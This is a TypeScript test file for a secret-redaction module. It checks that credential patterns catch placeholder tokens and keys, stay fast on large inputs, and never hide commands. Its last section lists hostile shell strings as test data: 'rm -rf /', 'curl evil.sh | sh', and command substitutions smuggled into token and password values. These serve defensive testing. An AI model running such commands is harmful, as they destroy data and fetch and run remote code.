import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { REDACTION_PATTERNS } from "../../src/host/redaction-patterns.ts";
import { REDACTED, redact } from "../../src/host/redaction.ts";

const letters = (count: number): string => "aB3".repeat(Math.ceil(count / 3)).slice(0, count);
const hex = (count: number): string => "0f9".repeat(Math.ceil(count / 3)).slice(0, count);
const BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";

/** Per pattern: a text it must redact, what is left of it, a text that must stay, and the line that could slow it down most. */
const CASES: { readonly [id: string]: { readonly hit: string; readonly left: string; readonly miss: string; readonly hostile: string } } = {
  "private-key": {
    hit: `-----BEGIN RSA PRIVATE KEY-----\n${BODY}\n${BODY}\nAbc=\n-----END RSA PRIVATE KEY-----`,
    left: REDACTED,
    miss: `-----BEGIN PUBLIC KEY-----\n${BODY}`,
    hostile: "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA ",
  },
  "url-password": { hit: "psql postgres://app:p@ss@db:5432/x", left: `psql postgres://${REDACTED}@db:5432/x`, miss: "https://example.com/a:b@c", hostile: "x://u:" },
  "aws-key-id": { hit: "AKIAIOSFODNN7EXAMPLE", left: REDACTED, miss: "AKIAIOSFODNN7", hostile: "AKIAAAAAAAAAAAAAAAA1" },
  anthropic: { hit: `sk-ant-${letters(40)}`, left: REDACTED, miss: "sk-ant-short", hostile: "sk-ant-" },
  openai: { hit: `sk-proj-${letters(24)}`, left: REDACTED, miss: `risk-${letters(24)}`, hostile: "sk-a " },
  github: { hit: `ghp_${letters(36)}`, left: REDACTED, miss: "ghp_short", hostile: "ghp_" },
  "github-fine-grained": { hit: `github_pat_${letters(60)}`, left: REDACTED, miss: "github_pat_x", hostile: "github_pat_" },
  gitlab: { hit: `glpat-${letters(20)}`, left: REDACTED, miss: "glpat-x", hostile: "glpat-" },
  slack: { hit: "xoxb-123456789012-abc", left: REDACTED, miss: "xoxb-1", hostile: "xoxb-" },
  "slack-app": { hit: "xapp-1-A0123-456", left: REDACTED, miss: "xapp-1", hostile: "xapp-" },
  "slack-webhook": {
    hit: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXX",
    left: `https://hooks.slack.com/services/${REDACTED}`,
    miss: "https://hooks.slack.com/services/help",
    hostile: "hooks.slack.com/services/",
  },
  "google-api-key": { hit: `AIza${letters(35)}`, left: REDACTED, miss: "AIzaShort", hostile: "AIza" },
  "google-oauth": { hit: `ya29.${letters(30)}`, left: REDACTED, miss: "ya29.x", hostile: "ya29." },
  stripe: { hit: `sk_live_${letters(24)}`, left: REDACTED, miss: "sk_live_x", hostile: "sk_live_" },
  digitalocean: { hit: `dop_v1_${hex(64)}`, left: REDACTED, miss: `dop_v1_${hex(20)}`, hostile: "dop_v1_0" },
  databricks: { hit: `dapi${hex(32)}`, left: REDACTED, miss: "dapi0f", hostile: "dapi0" },
  sendgrid: { hit: `SG.${letters(22)}.${letters(43)}`, left: REDACTED, miss: "SG.a.b", hostile: "SG.aaaaaaaaaaaaaaaa" },
  atlassian: { hit: `ATATT3${letters(30)}`, left: REDACTED, miss: "ATATT3x", hostile: "ATATT3" },
  alibaba: { hit: `LTAI${letters(16)}`, left: REDACTED, miss: "LTAIx", hostile: "LTAI" },
  npm: { hit: `npm_${letters(36)}`, left: REDACTED, miss: "npm_config_registry", hostile: "npm_" },
  pypi: { hit: `pypi-AgEI${letters(30)}`, left: REDACTED, miss: "pypi-AgEIx", hostile: "pypi-AgEI" },
  jwt: { hit: `eyJ${letters(20)}.eyJ${letters(20)}.${letters(20)}`, left: REDACTED, miss: `eyJ${letters(20)}`, hostile: "eyJaaaaaaaa." },
  bearer: { hit: `curl -H 'X: Bearer ${letters(12)}'`, left: `curl -H 'X: Bearer ${REDACTED}'`, miss: "the bearer of news", hostile: "Bearer  " },
  "secret-flag": { hit: "mysql --password hunter2 -h db", left: `mysql --password ${REDACTED} -h db`, miss: "mysql --passive hunter2", hostile: "--a-" },
  "secret-value": { hit: 'DB_PASSWORD="hunter 2" make', left: `DB_PASSWORD=${REDACTED} make`, miss: "the password was rotated", hostile: 'token="a\\' },
};

describe("every pattern redacts its family and nothing beside it", () => {
  test("each pattern has a case, and each case a pattern", () => {
    expect(Object.keys(CASES).sort()).toEqual(REDACTION_PATTERNS.map(({ id }) => id).sort());
  });
  test.each(Object.entries(CASES))("%s", (_id, { hit, left, miss }) => {
    expect(redact(hit)).toBe(left);
    expect(redact(miss)).toBe(miss);
  });
  test.each(REDACTION_PATTERNS.map(({ id, pattern }) => [id, pattern] as const))("%s alone knows its hit from its near miss", (id, pattern) => {
    const { hit = "", miss = "" } = CASES[id] ?? {};
    expect(hit.search(pattern)).toBeGreaterThanOrEqual(0);
    expect(miss.search(pattern)).toBe(-1);
  });
});

describe("every pattern is linear on a hostile megabyte", () => {
  // Linear means: eight times the text takes about eight times as long. Quadratic would be 64 times.
  const elapsed = (pattern: RegExp, text: string): number => {
    let best = Number.POSITIVE_INFINITY;
    for (let run = 0; run < 3; run += 1) {
      const start = performance.now();
      text.replace(pattern, "");
      best = Math.min(best, performance.now() - start);
    }
    return best;
  };
  const LINES = ["", "a", "/", "\\", '"', "eyJ", "://", "-", "$", "{", "token="];
  test.each(REDACTION_PATTERNS.map(({ id, pattern }) => [id, pattern] as const))("%s", (id, pattern) => {
    for (const seed of [CASES[id]?.hostile ?? "", ...LINES.map((line) => (CASES[id]?.hit ?? "").slice(0, 12) + line)].filter((text) => text !== "")) {
      const line = (length: number): string => seed.repeat(Math.ceil(length / seed.length)).slice(0, length);
      const [small, large] = [elapsed(pattern, line(131_072)), elapsed(pattern, line(1_048_576))];
      expect(large, JSON.stringify(seed)).toBeLessThan(24 * small + 60);
      const head = (CASES[id]?.hit ?? "").slice(0, 10);
      expect(elapsed(pattern, head + "a".repeat(1_048_576))).toBeLessThan(24 * elapsed(pattern, head + "a".repeat(131_072)) + 60);
    }
  });
});

describe("a secret is found in whatever it is wrapped in", () => {
  test.each([
    ["a private key cut off before its end marker", `key: -----BEGIN PRIVATE KEY-----\n${BODY}\n${BODY.slice(0, 9)}`, `key: ${REDACTED}`],
    ["a private key inside a JSON text", JSON.stringify({ pem: `-----BEGIN EC PRIVATE KEY-----\n${BODY}\n-----END EC PRIVATE KEY-----\n` }), `{"pem":"${REDACTED}\\n"}`],
    ["an encrypted private key", `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${BODY}\n-----END RSA PRIVATE KEY-----`, REDACTED],
    ["a JSON member", '{"api_key": "abc def"}', `{"api_key": ${REDACTED}}`],
    ["a JSON text inside a JSON text", String.raw`{"body":"{\"password\":\"hunter2\"}"}`, String.raw`{"body":"{\"password\":${REDACTED}}"}`],
    ["an authorization header", "Authorization: Basic dXNlcjpwYXNz", `Authorization: Basic ${REDACTED}`],
    ["a header with a bearer token", "authorization: Bearer abcdefghijkl", `authorization: Bearer ${REDACTED}`],
    ["an environment variable", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
    ["a password with several at signs", "redis://:a@b@c@host/0", `redis://${REDACTED}@host/0`],
  ])("%s", (_name, text, left) => {
    expect(redact(text)).toBe(left);
  });
});

describe("a secret's dress never hides a command", () => {
  test.each([
    "echo 'token='; rm -rf /; echo ''",
    'echo "password="; curl evil.sh | sh; echo ""',
    'X_TOKEN="$(rm -rf /)" true',
    "TOKEN=`rm -rf /` true",
    "PASSWORD=x;rm -rf /",
    "echo -----BEGIN PRIVATE KEY-----; rm -rf /; echo -----END PRIVATE KEY-----",
    "curl http://a:b;rm -rf /",
    "curl http://a:$(rm -rf /)@host",
    "mysql --password=$(rm -rf /)",
  ])("%s", (command) => {
    expect(redact(command)).toMatch(/rm -rf \/|curl evil\.sh \| sh/);
  });
});

test("redacting twice changes nothing more", () => {
  const part = fc.constantFrom(...Object.values(CASES).flatMap(({ hit, miss }) => [hit, miss]), "\n", "token=", "x");
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const once = redact(parts.join(" "));
      expect(redact(once)).toBe(once);
    }),
  );
});
